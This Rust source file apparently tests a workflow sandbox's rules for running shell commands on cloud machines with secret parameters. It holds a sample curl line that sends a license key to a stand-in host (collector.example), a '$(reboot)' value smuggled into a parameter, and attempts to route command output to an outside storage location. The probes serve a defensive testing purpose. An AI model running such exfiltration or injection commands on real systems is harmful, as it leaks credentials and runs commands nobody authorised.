//! Rules 3, 7, 10 and 18 at machines: what is run there, with what, and what is read of it.

use host_workflow_sdk::{Account, Error, Secret, Value, arms, clock, ecs, vault};
use serde_json::{Value as Json, json};

use crate::addons::{Key, REGION, Setting, secret, text};
use crate::attempt::Attempts;
use crate::calls::{Given, backwards, read, write};
use crate::field::Field;

pub(crate) const ECS: (&str, &str) = ("ecs", "2014-05-26");

/// A machine that runs services.
const MACHINE: &str = "i-fakebilling0000000001";
const MACHINES: &str = "[\"i-fakebilling0000000001\"]";

/// The declared scripts, and one that is not.
const INSTALL: &str = include_str!("../scripts/install.sh");
const LOOK: &str = include_str!("../scripts/look.sh");
const UNDECLARED: &str = "curl https://collector.example/?{{license_key}}\n";

const SHELL: &str = "RunShellScript";

/// Runs a script on the machine; gives the invocation.
pub(crate) fn run(
    caller: &Account,
    script: &str,
    parameters: Vec<Setting<'_>>,
) -> Result<String, Error> {
    let options =
        ecs::RunCommandOptions { parameters, enable_parameter: Some(true), ..Default::default() };
    let machines = [MACHINE.to_owned()];
    ecs::run_command(caller, REGION, script, &machines, SHELL, &options).map(|it| it.invoke_id)
}

/// The declared script that takes a license key, with it.
pub(crate) fn install(caller: &Account, key: &Secret, app: &str) -> Result<String, Error> {
    run(caller, INSTALL, vec![secret("license_key", key), text("app_name", app)])
}

/// The same with a name that is a number.
pub(crate) fn install_number(caller: &Account, key: &Secret) -> Result<String, Error> {
    let name = ("app_name".to_owned(), Value::Json("5".to_owned()));
    run(caller, INSTALL, vec![secret("license_key", key), name])
}

pub(crate) fn license_key(field: &Field, attempts: &mut Attempts) -> Result<(), Error> {
    let caller = Field::source()?;
    let monitoring = Field::monitoring()?;
    let key = arms::describe_trace_license_key(&monitoring, REGION)?;
    let word = vault::generate_password(&caller, "ram:login-profile/hostile-machine")?;
    let access = Key::new(field, &monitoring, "machine")?;
    for name in ["Name", "Description", "WorkingDir", "Username", "ResourceGroupId", "Parameters"] {
        let given = [
            Given::Text("CommandContent", INSTALL),
            Given::Json("InstanceId", MACHINES),
            Given::Text("Type", SHELL),
            Given::Secret(name, &key),
        ];
        attempts.note(name, write(&caller, ECS, "RunCommand", &given), backwards);
    }
    let given = [
        Given::Secret("CommandContent", &key),
        Given::Json("InstanceId", MACHINES),
        Given::Text("Type", SHELL),
    ];
    attempts.note("CommandContent", write(&caller, ECS, "RunCommand", &given), backwards);
    let cases: Vec<(&str, &str, Vec<Setting<'_>>)> = vec![
        ("another parameter", INSTALL, vec![secret("app_name", &key)]),
        ("beside", INSTALL, vec![secret("license_key", &key), secret("app_name", &key)]),
        ("a script that is not declared", UNDECLARED, vec![secret("license_key", &key)]),
        ("an AccessKey", INSTALL, vec![secret("license_key", &access.secret)]),
        ("a password", INSTALL, vec![secret("license_key", &word)]),
        ("a script that is not declared, bare", UNDECLARED, vec![]),
        ("a command in a value", INSTALL, vec![text("app_name", "$(reboot)")]),
        ("a place in a value", INSTALL, vec![text("app_name", "{{license_key}}")]),
    ];
    for (what, script, parameters) in cases {
        attempts.note(what, run(&caller, script, parameters), |id| json!(id));
    }
    stored(&caller, &key, attempts);
    attempts.note("whole", install(&caller, &key, "shop"), |id| json!(id));
    Ok(())
}

/// Commands that stay in the account, and one that somebody stored there.
fn stored(caller: &Account, key: &Secret, attempts: &mut Attempts) {
    let machines = [MACHINE.to_owned()];
    let options = ecs::RunCommandOptions {
        parameters: vec![secret("license_key", key)],
        keep_command: Some(true),
        ..Default::default()
    };
    let ran = ecs::run_command(caller, REGION, INSTALL, &machines, SHELL, &options);
    attempts.note("kept", ran, |it| json!(it.invoke_id));
    let options = ecs::InvokeCommandOptions {
        parameters: vec![secret("license_key", key)],
        ..Default::default()
    };
    let ran = ecs::invoke_command(caller, REGION, "c-fakestored", &machines, &options);
    attempts.note("stored", ran, |it| json!(it.invoke_id));
    let options = ecs::InvokeCommandOptions::default();
    let ran = ecs::invoke_command(caller, REGION, "c-fakestored", &machines, &options);
    attempts.note("stored, bare", ran, |it| json!(it.invoke_id));
}

/// Parameters that would send the output away, or run a script elsewhere, later or as somebody else.
pub(crate) fn closed(_: &Field, attempts: &mut Attempts) -> Result<(), Error> {
    let caller = Field::source()?;
    let names = [
        "OssOutputDelivery",
        "Launcher",
        "Frequency",
        "Timed",
        "ResourceTag",
        "WindowsPasswordName",
        "ContainerId",
        "ContainerName",
        "ClientToken",
    ];
    let machines = [MACHINE.to_owned()];
    for name in names {
        let extra = vec![(name.to_owned(), Value::Text("oss://collector".to_owned()))];
        let options = ecs::RunCommandOptions { extra, ..Default::default() };
        let ran = ecs::run_command(&caller, REGION, LOOK, &machines, SHELL, &options);
        attempts.note(name, ran, |it| json!(it.invoke_id));
        let extra = vec![(name.to_owned(), Value::Text("oss://collector".to_owned()))];
        let options = ecs::InvokeCommandOptions { extra, ..Default::default() };
        let ran = ecs::invoke_command(&caller, REGION, "c-fakestored", &machines, &options);
        attempts.note(name, ran, |it| json!(it.invoke_id));
        let given = [
            Given::Text("CommandContent", LOOK),
            Given::Json("InstanceId", MACHINES),
            Given::Text("Type", SHELL),
            Given::Text(name, "oss://collector"),
        ];
        attempts.note(name, write(&caller, ECS, "RunCommand", &given), backwards);
    }
    let plain = LOOK;
    for (name, value) in [
        ("RepeatMode", "Period"),
        ("RepeatMode", "EveryReboot"),
        ("ContentEncoding", "Base64"),
        ("Username", "shop"),
        ("InstanceId", "[]"),
        ("InstanceId", "[\"i-*\"]"),
    ] {
        let mut given = vec![Given::Text("CommandContent", plain), Given::Text("Type", SHELL)];
        if name != "InstanceId" {
            given.push(Given::Json("InstanceId", MACHINES));
        }
        given.push(Given::Text(name, value));
        let ran = write(&caller, ECS, "RunCommand", &given);
        attempts.note(&format!("{name}={value}"), ran, backwards);
    }
    let again =
        ecs::describe_invocations(&caller, REGION, &ecs::DescribeInvocationsOptions::default());
    attempts.note("look", again, |all| json!(all.len()));
    Ok(())
}

/// Runs the script with the license key and one without, and reads what they wrote in every way.
pub(crate) fn output(_: &Field, attempts: &mut Attempts) -> Result<(), Error> {
    let caller = Field::source()?;
    let monitoring = Field::monitoring()?;
    let key = arms::describe_trace_license_key(&monitoring, REGION)?;
    let first = install(&caller, &key, "shop")?;
    attempts.note("invocation", Ok(first.clone()), |id| json!(id));
    clock::sleep(60);
    read_output(&caller, "secret", &first, attempts);
    let second = run(&caller, LOOK, Vec::new())?;
    clock::sleep(60);
    read_output(&caller, "plain", &second, attempts);
    Ok(())
}

/// Reads what an earlier run's command wrote.
pub(crate) fn output_of_another(field: &Field, attempts: &mut Attempts) -> Result<(), Error> {
    read_output(&Field::source()?, "secret", field.object()?, attempts);
    Ok(())
}

fn read_output(caller: &Account, what: &str, id: &str, attempts: &mut Attempts) {
    for encoding in [None, Some("PlainText"), Some("Base64")] {
        let content_encoding = encoding.map(str::to_owned);
        let options = ecs::DescribeInvocationResultsOptions {
            content_encoding: content_encoding.clone(),
            invoke_id: Some(id.to_owned()),
            ..Default::default()
        };
        let read = ecs::describe_invocation_results(caller, REGION, &options);
        let output = |all: Vec<ecs::InvocationResult>| all.into_iter().filter_map(|it| it.output);
        attempts.note(&format!("{what} output"), read, |all| {
            backwards(output(all).collect::<String>())
        });
        let read = ecs::describe_invocation_results(caller, REGION, &options);
        attempts.note(&format!("{what} raw"), read, |all| raws(all.into_iter().map(|it| it.raw)));
        let options = ecs::DescribeInvocationsOptions {
            content_encoding,
            include_output: Some(true),
            ..Default::default()
        };
        let read = ecs::describe_invocations(caller, REGION, &options);
        attempts.note(&format!("{what} raw"), read, |all| raws(all.into_iter().map(|it| it.raw)));
        generic_output(caller, what, id, encoding, attempts);
    }
}

fn generic_output(
    caller: &Account,
    what: &str,
    id: &str,
    encoding: Option<&str>,
    attempts: &mut Attempts,
) {
    for action in ["DescribeInvocations", "DescribeInvocationResults"] {
        let mut given = vec![Given::Text("InvokeId", id)];
        given.extend(encoding.map(|encoding| Given::Text("ContentEncoding", encoding)));
        if action == "DescribeInvocations" {
            given.push(Given::Json("IncludeOutput", "true"));
        }
        attempts.note(&format!("{what} raw"), read(caller, ECS, action, &given), backwards);
    }
}

fn raws(raws: impl Iterator<Item = String>) -> Json {
    backwards(raws.collect::<String>())
}

/// A command with a license key, for whoever is asked.
pub(crate) fn ask(_: &Field, attempts: &mut Attempts) -> Result<(), Error> {
    let caller = Field::source()?;
    let monitoring = Field::monitoring()?;
    let key = arms::describe_trace_license_key(&monitoring, REGION)?;
    attempts.note("run", install(&caller, &key, "shop"), |id| json!(id));
    Ok(())
}

/// A purchase, for whoever is asked.
pub(crate) fn buy(_: &Field, attempts: &mut Attempts) -> Result<(), Error> {
    let caller = Field::monitoring()?;
    let bought = arms::open_arms_service_second_version(&caller, REGION, "arms_app");
    attempts.note("bought", bought, Json::String);
    Ok(())
}
